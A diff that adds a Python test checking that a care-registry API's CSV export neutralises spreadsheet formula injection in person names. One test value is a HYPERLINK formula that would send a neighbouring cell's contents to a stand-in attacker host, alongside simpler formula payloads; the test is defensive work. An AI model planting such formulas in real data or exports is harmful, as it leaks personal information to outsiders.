@@ -107,6 +107,29 @@ async def test_registry_entries_criteria_history_and_export(api: httpx.AsyncClie
     assert seen["id_number"] == child["id_number"][:3] + "*" * 11 + child["id_number"][-4:]
 
 
+async def test_export_prefixes_formula_names(api: httpx.AsyncClient, staff: dict) -> None:
+    """H2: a name a spreadsheet would run as a formula comes out '-prefixed (OWASP CSV injection);
+    the ID number stays the bare 18 characters."""
+    caseworker = staff["caseworker"]
+    names = ['=HYPERLINK("http://evil.example/?x="&B2,"点击")', "+1+2", "-2+3", "@SUM(A1)"]
+    made = {}
+    for name in names:
+        made[name] = await person(api, caseworker, birth=date(1948, 3, 3), sex="female", name=name)
+        entered = await api.post("/api/v1/care/left-behind", headers=auth(caseworker), json={
+            "person_id": made[name]["id"], "category": "elderly",
+            "facts": {"children_away": True, "absence_months": 12, "living": "alone"}})
+        assert entered.status_code == 201, entered.text
+    export = await api.get("/api/v1/care/left-behind/export", params={"town": TOWN}, headers=auth(caseworker))
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8").lstrip("\ufeff"))))
+    by_id = {r["公民身份号码"]: r for r in rows}
+    for name in names:
+        row = by_id[made[name]["id_number"]]
+        assert row["姓名"] == "'" + name
+        assert (row["留守类型"], row["状态"], row["外出时长（月）"]) == ("留守老人", "在册", "12")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
 async def test_criteria_calculator(api: httpx.AsyncClient) -> None:
     response = await api.post("/api/v1/care/left-behind:evaluate", json={
         "category": "woman", "sex": "female", "birth_date": "1990-01-01", "on": "2020-06-15",
